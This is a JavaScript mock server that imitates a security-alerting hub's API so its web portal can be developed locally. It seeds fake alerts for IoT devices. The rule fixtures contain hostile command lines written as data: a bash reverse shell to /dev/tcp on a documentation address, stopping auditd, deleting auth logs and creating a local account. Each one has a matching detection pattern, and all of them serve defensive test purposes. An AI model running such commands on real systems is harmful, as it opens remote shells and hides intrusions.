// A stand-in for the hub, for work on the portal without one: `npm run mock`, then http://127.0.0.1:8444
// (user admin, password admin). Serves the built portal with the hub's own security headers. Its answers
// have the API's shapes and nothing behind them; every test that counts runs against the real hub.
import { createReadStream, existsSync } from 'node:fs';
import { createServer } from 'node:http';
import { extname, join, normalize } from 'node:path';

const port = Number(process.env.PORT ?? 8444);
const dist = process.env.PORTAL_DIR ?? join(import.meta.dirname, '../../build/portal');
const csp = [
  "default-src 'none'", "script-src 'self'", "style-src 'self'", "img-src 'self' data:", "font-src 'self'",
  "connect-src 'self'", "worker-src 'self'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'",
  "require-trusted-types-for 'script'", 'trusted-types svelte-trusted-html',
].join('; ');
const types = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };

const minutes = (n) => new Date(Date.now() - n * 60_000).toISOString();
const rules = [
  ['crypto_coin_miner', 'Crypto coin miner started', 'High', 'Impact', 'T1496', 'sh -c "echo cpuminer-multi"', "contains 'cpuminer'"],
  ['reverse_shell', 'Shell connected to a remote address', 'High', 'Execution', 'T1059.004', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', "contains '/dev/tcp/'"],
  ['audit_disabled', 'Auditing was switched off', 'Medium', 'Defense Evasion', 'T1562.001', 'systemctl stop auditd', "contains 'stop auditd'"],
  ['log_cleared', 'A system log was deleted', 'Medium', 'Defense Evasion', 'T1070.002', 'rm -f /var/log/auth.log', "contains '/var/log/'"],
  ['local_account', 'A local account was created', 'Low', 'Persistence', 'T1136.001', 'useradd -m support2', "starts with 'useradd'"],
];
let nextId = 1;
function makeAlert([id, title, severity, tactic, technique, command, pattern], device, age, status = 'new') {
  return {
    id: `a-${String(nextId++).padStart(6, '0')}-3f9c`, rule: { id, title: `${title} (rule)` }, title, severity, status,
    deviceId: device, moduleId: 'azureiotsecurity', firstSeen: minutes(age + 3), lastSeen: minutes(age), hitCount: 1 + (age % 4),
    description: `On ${device}, a process was started with the command line ${command}.`,
    whyFlagged: `The command line ${pattern.replace(/'/g, '“')}, which this rule looks for.`,
    remediation: ['Find out who or what started the process, and whether it was meant to.', 'If it was not, isolate the device from the network and keep its disk.', 'Look for the same command on other devices with the query below.'],
    tactics: [tactic], techniques: [technique], verdict: status === 'closed' ? 'benign' : null, assignee: null, entity: '/usr/bin/dash',
    closed: status === 'closed' ? minutes(age) : null, suppressionId: null, falsePositives: ['Tests of the detection itself.'], aliases: [], etag: '1',
    evidence: [{ eventId: crypto.randomUUID(), time: minutes(age), name: 'ProcessCreate', details: { Executable: '/usr/bin/dash', ProcessId: 4211, ParentProcessId: 812, UserId: '0', UserName: 'root', CommandLine: command, ExtraDetails: { Cwd: '/root', ContainerId: '' } }, matched: [{ field: 'CommandLine', value: command, pattern, found: pattern.split("'")[1] }] }],
    query: `SecurityIoTRawEvent\n| where DeviceId == "${device}" and RawEventName == "ProcessCreate"\n| where EventDetails contains "cpuminer"\n| order by TimeStamp desc`,
    history: [{ time: minutes(age + 3), actor: 'vedette', action: 'created', detail: '', comment: '' }],
  };
}
const names = ['gate-01', 'line-3-plc-gateway', 'hvac-roof', 'camera-hub-north', 'press-controller-7', 'meter-room'];
const alerts = process.env.EMPTY ? [] : Array.from({ length: 14 }, (_, i) => makeAlert(rules[i % rules.length], names[i % names.length], 4 + i * 37, i % 5 === 4 ? 'closed' : i % 3 === 1 ? 'active' : 'new'));
const devices = names.map((deviceId, i) => ({
  deviceId, status: i === 5 ? 'disabled' : 'enabled', connectionState: i % 3 === 2 || i === 5 ? 'Disconnected' : 'Connected',
  lastActivity: i === 5 ? null : minutes(i * 7), created: minutes(60 * 24 * (i + 3)), generationId: `63899${i}0042`, etag: `"${i}"`,
  openAlerts: 0, authentication: { type: 'sas' },
  modules: i === 5 ? [] : [{ moduleId: 'azureiotsecurity', connectionState: i % 3 === 2 ? 'Disconnected' : 'Connected', lastActivity: minutes(i * 7), agent: { version: '0.1.0', tier: ['ebpf', 'ebpf', 'connector', 'proc'][i % 4] } }],
}));
const tables = [
  { name: 'SecurityIoTRawEvent', description: 'What agents report.', columns: [['TimeGenerated', 'datetime'], ['TimeStamp', 'datetime'], ['DeviceId', 'string'], ['RawEventName', 'string'], ['EventDetails', 'string'], ['IoTRawEventId', 'string']].map(([name, type]) => ({ name, type })) },
  { name: 'SecurityAlert', description: 'Alerts.', columns: [['TimeGenerated', 'datetime'], ['DisplayName', 'string'], ['AlertSeverity', 'string'], ['Status', 'string']].map(([name, type]) => ({ name, type })) },
];

const sessions = new Set();
const streams = new Set();
let sequence = 1;
function publish(event, data) {
  for (const stream of streams) stream.write(`id: ${sequence}\nevent: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
  sequence += 1;
}
const brief = ({ id, severity, title, status, deviceId }) => ({ id, severity, title, status, deviceId });

class Refusal extends Error {
  constructor(status, code, message, diagnostics) {
    super(message);
    Object.assign(this, { status, code, diagnostics });
  }
}

function diagnose(query) {
  const at = query.search(/\bwher\b/);
  if (at === -1) return [];
  const before = query.slice(0, at).split('\n');
  return [{ severity: 'error', message: "unknown operator 'wher'; did you mean 'where'?", line: before.length, column: before.at(-1).length + 1, offset: Buffer.byteLength(query.slice(0, at)), length: 4 }];
}

const saved = [{ id: 'builtin-x', name: 'Alerts as they are now', description: 'The last state of each alert.', query: 'SecurityAlert', tags: ['alerts'], shared: true, builtin: true, owner: 'vedette', created: minutes(0), updated: minutes(0), updatedBy: 'vedette', etag: '1' }];

// Tables first, then anything: the hub knows the grammar, this only shows how it looks.
function complete({ query, offset }) {
  const word = /\w*$/.exec(Buffer.from(query).subarray(0, offset).toString())[0];
  const items = [...tables.map((table) => ({ label: table.name, kind: 'table', insert: table.name, detail: 'table', documentation: table.description })),
    ...tables[0].columns.map((column) => ({ label: column.name, kind: 'column', insert: column.name, detail: column.type, documentation: '' }))];
  return { offset: offset - word.length, length: word.length, items: items.filter((item) => item.label.toLowerCase().includes(word.toLowerCase())), signature: null };
}

function runQuery({ query }) {
  const diagnostics = diagnose(query);
  if (diagnostics.length > 0) throw new Refusal(400, 'BadQuery', 'The query has errors.', diagnostics);
  const count = /\btake 25\b/.test(query) ? 25 : 5000;
  const rows = Array.from({ length: count }, (_, i) => [minutes(i), names[i % names.length], 'ProcessCreate', JSON.stringify({ Executable: '/usr/bin/dash', CommandLine: i % 9 === 0 ? 'sh -c "echo cpuminer-multi"' : `ls -l /srv/${i}`, ProcessId: 4000 + i, UserName: 'root' }), crypto.randomUUID(), 4000 + i]);
  const columns = [['TimeStamp', 'datetime'], ['DeviceId', 'string'], ['RawEventName', 'string'], ['EventDetails', 'string'], ['IoTRawEventId', 'string'], ['ProcessId', 'long']].map(([name, type]) => ({ name, type }));
  const limits = { timeoutMs: 30000, rows: 10000, bytes: 67108864, memoryBytes: 536870912, spillBytes: 4294967296, reached: null };
  return { id: 'mock', columns, rows, stats: { rows: rows.length, bytes: 8 * rows.length, truncated: false, compileMs: 0.3, elapsedMs: 12.4 }, limits, warnings: [] };
}

const list = (items, url) => {
  const limit = Number(url.searchParams.get('limit') ?? 50);
  const from = Number(url.searchParams.get('cursor') ?? 0);
  return { items: items.slice(from, from + limit), nextCursor: from + limit < items.length ? String(from + limit) : null, total: items.length };
};

// Alerts that a filter lets through; its members are asked for one by one.
const filtered = (get) => alerts.filter((alert) => (get('status') === undefined || (get('status') === 'open' ? alert.status !== 'closed' : alert.status === get('status'))) &&
  (get('severity') ?? alert.severity) === alert.severity && (get('device') ?? alert.deviceId) === alert.deviceId && (get('rule') ?? alert.rule.id) === alert.rule.id &&
  (get('assignee') ?? alert.assignee ?? 'none') === (alert.assignee ?? 'none') && get('suppression') === undefined &&
  `${alert.title} ${alert.deviceId}`.toLowerCase().includes((get('search') ?? '').toLowerCase()));
const fromUrl = (url) => (name) => url.searchParams.get(name) ?? undefined;
function change(alert, wanted) {
  if (wanted.status) alert.status = wanted.status;
  alert.verdict = alert.status === 'closed' ? (wanted.verdict ?? alert.verdict ?? 'undetermined') : null;
  if (wanted.assignee !== undefined) alert.assignee = wanted.assignee;
  const action = wanted.status === 'closed' ? 'closed' : wanted.status ? 'activated' : wanted.assignee ? 'assigned' : wanted.assignee === null ? 'unassigned' : 'commented';
  alert.history.push({ time: minutes(0), actor: 'admin', action, detail: wanted.assignee ?? alert.verdict ?? '', comment: wanted.comment ?? '' });
  publish('alert', brief(alert));
  return alert;
}
const plans = new Map();
function plan({ filter = {}, change: wanted }) {
  const found = filter.ids ? alerts.filter((alert) => filter.ids.includes(alert.id)) : filtered((name) => filter[name]);
  const token = crypto.randomUUID();
  plans.set(token, { found, wanted });
  const count = (name, value) => found.filter((alert) => alert[name] === value).length;
  return {
    token, expires: minutes(-15), predicate: JSON.stringify(filter), effect: JSON.stringify(wanted), alerts: found.length, matched: found.length,
    byStatus: { new: count('status', 'new'), active: count('status', 'active'), closed: count('status', 'closed') },
    bySeverity: Object.fromEntries(['High', 'Medium', 'Low', 'Informational'].map((name) => [name, count('severity', name)])), sample: found.slice(0, 10),
  };
}
function groups(url) {
  const key = { rule: (alert) => alert.rule.id, device: (alert) => alert.deviceId, day: (alert) => alert.lastSeen.slice(0, 10), tactic: (alert) => alert.tactics[0], technique: (alert) => alert.techniques[0] };
  const by = url.searchParams.get('by') ?? 'severity';
  const found = new Map();
  for (const alert of filtered(fromUrl(url))) {
    const name = key[by]?.(alert) ?? alert[by] ?? '';
    const group = found.get(name) ?? { key: name, title: by === 'rule' ? alert.rule.title : name, alerts: 0, open: 0, hits: 0, severity: alert.severity, lastSeen: alert.lastSeen };
    found.set(name, Object.assign(group, { alerts: group.alerts + 1, open: group.open + (alert.status === 'closed' ? 0 : 1), hits: group.hits + alert.hitCount }));
  }
  return { items: [...found.values()].sort((a, b) => b.alerts - a.alerts) };
}
const suppressions = [];
const covered = ({ device = '*', ruleId }) => alerts.filter((alert) => (device.includes('*') || alert.deviceId === device) && (ruleId ?? alert.rule.id) === alert.rule.id);

const routes = [
  ['GET', /^\/session$/, () => ({ user: { name: 'admin', role: 'admin' }, expiresAt: minutes(-720) })],
  ['GET', /^\/status$/, () => ({ version: '0.1.0', hostName: 'mock', startedAt: minutes(60), uptimeSeconds: 3600, endpoints: {}, counters: {} })],
  ['GET', /^\/alerts$/, (_, url) => list(filtered(fromUrl(url)), url)],
  ['GET', /^\/alerts\/counts$/, (_, url) => groups(url)],
  ['GET', /^\/alerts\/assignees$/, () => ({ items: [{ name: 'admin' }, { name: 'ann' }] })],
  ['GET', /^\/alerts\/(.+)\/related$/, (_, __, id) => ({ items: alerts.filter((alert) => alert.id !== id).slice(0, 3).map((alert) => ({ alert, reasons: [{ relation: 'sameDevice', text: 'On the same device, 2 min apart.' }] })) })],
  ['GET', /^\/alerts\/(.+)$/, (_, __, id) => alerts.find((alert) => alert.id === id)],
  ['PATCH', /^\/alerts\/(.+)$/, (body, _, id) => change(alerts.find((one) => one.id === id), body)],
  ['POST', /^\/alerts\/bulk\/test$/, plan],
  ['POST', /^\/alerts\/bulk$/, ({ token }) => { const { found, wanted } = plans.get(token); found.forEach((alert) => change(alert, wanted)); return { predicate: '', effect: '', changed: found.length, skipped: 0, skippedAlerts: [] }; }],
  ['GET', /^\/suppressions$/, () => ({ items: suppressions })],
  ['POST', /^\/suppressions\/test$/, ({ scope }) => { const found = covered(scope); return { predicate: JSON.stringify(scope), since: minutes(43_200), alerts: found.length, hits: found.length, open: found.length, partly: 0, truePositives: 0, bySeverity: {}, sample: found }; }],
  ['POST', /^\/suppressions$/, (draft) => { const made = { ...draft, id: crypto.randomUUID(), owner: 'admin', predicate: JSON.stringify(draft.scope), expires: minutes(-1440), enabled: true, inForce: true, hiddenAlerts: 0, hiddenHits: 0, lastHidden: null, created: minutes(0), createdBy: 'admin', updated: minutes(0), updatedBy: 'admin', etag: '1' }; suppressions.push(made); return made; }],
  ['PUT', /^\/suppressions\/(.+)$/, (draft, _, id) => Object.assign(suppressions.find((one) => one.id === id), draft, { inForce: draft.enabled })],
  ['DELETE', /^\/suppressions\/(.+)$/, (_, __, id) => { suppressions.splice(suppressions.findIndex((one) => one.id === id), 1); return {}; }],
  ['GET', /^\/devices$/, (_, url) => list(process.env.EMPTY ? [] : devices.filter((device) => device.deviceId.includes(url.searchParams.get('search') ?? '')).map(withAlerts), url)],
  ['GET', /^\/devices\/(.+)$/, (_, __, id) => { const found = devices.find((device) => device.deviceId === id); return found && withAlerts(found); }],
  ['POST', /^\/query$/, runQuery],
  ['POST', /^\/query\/validate$/, ({ query }) => ({ valid: diagnose(query).length === 0, columns: [], parameters: [], diagnostics: diagnose(query) })],
  ['GET', /^\/query\/schema$/, () => ({ tables })],
  ['POST', /^\/query\/complete$/, complete],
  ['DELETE', /^\/query\/(.+)$/, () => ({})],
  ['GET', /^\/queries$/, (_, url) => list(saved, url)],
  ['POST', /^\/queries$/, (draft) => { const made = { ...draft, id: crypto.randomUUID(), builtin: false, owner: 'admin', created: minutes(0), updated: minutes(0), updatedBy: 'admin', etag: '1' }; saved.push(made); return made; }],
  ['PUT', /^\/queries\/(.+)$/, (draft, _, id) => Object.assign(saved.find((one) => one.id === id), draft)],
  ['DELETE', /^\/queries\/(.+)$/, (_, __, id) => { saved.splice(saved.findIndex((one) => one.id === id), 1); return {}; }],
  // Not the hub's: makes something happen.
  ['POST', /^\/mock\/alert$/, () => { const alert = makeAlert(rules[0], 'gate-01', 0); alerts.unshift(alert); publish('alert', brief(alert)); return alert; }],
];
const withAlerts = (device) => ({ ...device, openAlerts: alerts.filter((alert) => alert.deviceId === device.deviceId && alert.status !== 'closed').length });

async function api(request, response, url) {
  let body = {};
  const chunks = [];
  for await (const chunk of request) chunks.push(chunk);
  if (chunks.length > 0) body = JSON.parse(Buffer.concat(chunks));
  const path = url.pathname.slice('/api/v1'.length);
  const sid = /sid=([\w-]+)/.exec(request.headers.cookie ?? '')?.[1];
  if (request.method !== 'GET' && request.headers['x-vedette-csrf'] !== '1' && !path.startsWith('/mock')) throw new Refusal(403, 'Forbidden', 'The header X-Vedette-Csrf is missing.');
  if (path === '/session' && request.method === 'POST') {
    if (body.password !== 'admin' && body.oneTimeToken !== 'once') throw new Refusal(401, 'Unauthorized', 'User name or password is wrong.');
    const id = crypto.randomUUID();
    sessions.add(id);
    response.setHeader('Set-Cookie', `sid=${id}; HttpOnly; SameSite=Strict; Path=/`);
    return routes[0][2]();
  }
  if (!sessions.has(sid) && !path.startsWith('/mock')) throw new Refusal(401, 'Unauthorized', 'Sign in first.');
  if (path === '/session' && request.method === 'DELETE') return sessions.delete(sid), undefined;
  for (const [method, pattern, answer] of routes) {
    const match = method === request.method && pattern.exec(path);
    if (!match) continue;
    const found = answer(body, url, ...match.slice(1).map(decodeURIComponent));
    if (found === undefined) break;
    return found;
  }
  throw new Refusal(404, 'NotFound', 'There is no such thing.');
}

createServer(async (request, response) => {
  const url = new URL(request.url, 'http://localhost');
  if (url.pathname === '/api/v1/stream') {
    if (!sessions.has(/sid=([\w-]+)/.exec(request.headers.cookie ?? '')?.[1])) return response.writeHead(401).end();
    response.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-store' }).write(': hello\n\n');
    streams.add(response);
    return request.on('close', () => streams.delete(response));
  }
  if (url.pathname.startsWith('/api/')) {
    try {
      const answer = await api(request, response, url);
      response.writeHead(answer === undefined ? 204 : 200, { 'Content-Type': 'application/json' }).end(answer && JSON.stringify(answer));
    } catch (error) {
      const { status = 500, code = 'Internal', message, diagnostics } = error;
      response.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify({ error: { code, message, requestId: '5f0c2f6e0b9f4d1c', diagnostics } }));
    }
    return;
  }
  const file = join(dist, normalize(url.pathname));
  const found = file.startsWith(dist) && extname(file) !== '' && existsSync(file);
  if (!found && url.pathname.startsWith('/assets/')) return response.writeHead(404).end();
  const served = found ? file : join(dist, 'index.html');
  response.writeHead(200, { 'Content-Type': types[extname(served)] ?? 'application/octet-stream', 'Content-Security-Policy': csp, 'X-Content-Type-Options': 'nosniff', 'Referrer-Policy': 'no-referrer' });
  createReadStream(served).pipe(response);
}).listen(port, '127.0.0.1', () => console.log(`mock hub: http://127.0.0.1:${port}`));
